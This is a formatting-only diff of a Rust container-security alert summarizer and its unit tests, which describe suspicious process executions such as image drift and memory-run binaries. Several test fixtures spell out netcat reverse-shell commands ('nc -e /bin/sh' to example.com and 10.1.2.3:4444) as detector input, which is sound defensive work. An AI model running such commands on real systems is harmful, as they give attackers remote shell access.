@@ -37,7 +37,9 @@ pub fn summary_line(cx: &Ctx, found: &Findings, category: &str) -> String {
     if cx.flag(ExeFlags::LOWER_LAYER) {
         s.push_str(&format!(" using {exe} shipped in the image"));
     } else if cx.flag(ExeFlags::UPPER_LAYER) {
-        s.push_str(&format!(" using {exe} added after the container started (drift)"));
+        s.push_str(&format!(
+            " using {exe} added after the container started (drift)"
+        ));
     } else if cx.flag(ExeFlags::FROM_MEMFD) {
         s.push_str(" run from memory (memfd)");
     }
@@ -60,7 +62,10 @@ pub fn summary_line(cx: &Ctx, found: &Findings, category: &str) -> String {
         s.push_str("; netcat-openbsd has no -e, so it likely failed");
     }
     if failed {
-        s.push_str(&format!("; exec failed (res={})", cx.facts.res.unwrap_or(0)));
+        s.push_str(&format!(
+            "; exec failed (res={})",
+            cx.facts.res.unwrap_or(0)
+        ));
     }
     if s.chars().count() > MAX_SUMMARY {
         let cut: String = s.chars().take(MAX_SUMMARY - 1).collect();
@@ -76,13 +81,19 @@ mod tests {
 
     fn seed() -> ExecFacts {
         ExecFacts {
-            argv: ["nc", "-e", "/bin/sh", "example.com", "22"].iter().map(|s| s.to_string()).collect(),
+            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
+                .iter()
+                .map(|s| s.to_string())
+                .collect(),
             exe_path: Some("/usr/bin/nc.openbsd".into()),
             comm: Some("nc".into()),
             uid: Some(0),
             res: Some(0),
             exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
-            container: Some(ContainerInfo { runtime: ContainerRuntime::Docker, short_id: "1d45a96b1daa".into() }),
+            container: Some(ContainerInfo {
+                runtime: ContainerRuntime::Docker,
+                short_id: "1d45a96b1daa".into(),
+            }),
             cgroups_present: true,
             ..Default::default()
         }
@@ -92,9 +103,17 @@ mod tests {
     fn seed_alert_summary_reads_it_correctly() {
         let v = analyze(&seed(), &Lineage::from_comms(["event-generator"]));
         let s = &v.summary;
-        assert!(s.starts_with("test activity (event-generator): reverse shell: nc -e /bin/sh to example.com:22"), "{s}");
+        assert!(
+            s.starts_with(
+                "test activity (event-generator): reverse shell: nc -e /bin/sh to example.com:22"
+            ),
+            "{s}"
+        );
         assert!(s.contains("shipped in the image"), "{s}");
-        assert!(s.contains("as root in container 1d45a96b1daa (parent event-generator)"), "{s}");
+        assert!(
+            s.contains("as root in container 1d45a96b1daa (parent event-generator)"),
+            "{s}"
+        );
         assert!(s.contains("likely failed"), "{s}");
         assert!(s.chars().count() <= 300);
     }
@@ -102,7 +121,10 @@ mod tests {
     #[test]
     fn real_reverse_shell_and_unknown_parent() {
         let mut f = seed();
-        f.argv = ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"].iter().map(|s| s.to_string()).collect();
+        f.argv = ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
         f.exe_path = Some("/bin/nc.traditional".into());
         let v = analyze(&f, &Lineage::default());
         assert_eq!(
@@ -125,7 +147,13 @@ mod tests {
     #[test]
     fn summary_is_bounded() {
         let mut f = seed();
-        f.argv = vec!["nc".into(), "-e".into(), "/bin/sh".into(), "h".repeat(5000), "1".into()];
+        f.argv = vec![
+            "nc".into(),
+            "-e".into(),
+            "/bin/sh".into(),
+            "h".repeat(5000),
+            "1".into(),
+        ];
         let v = analyze(&f, &Lineage::from_comms(["x".repeat(1000)]));
         assert!(v.summary.chars().count() <= 300, "{}", v.summary.len());
     }
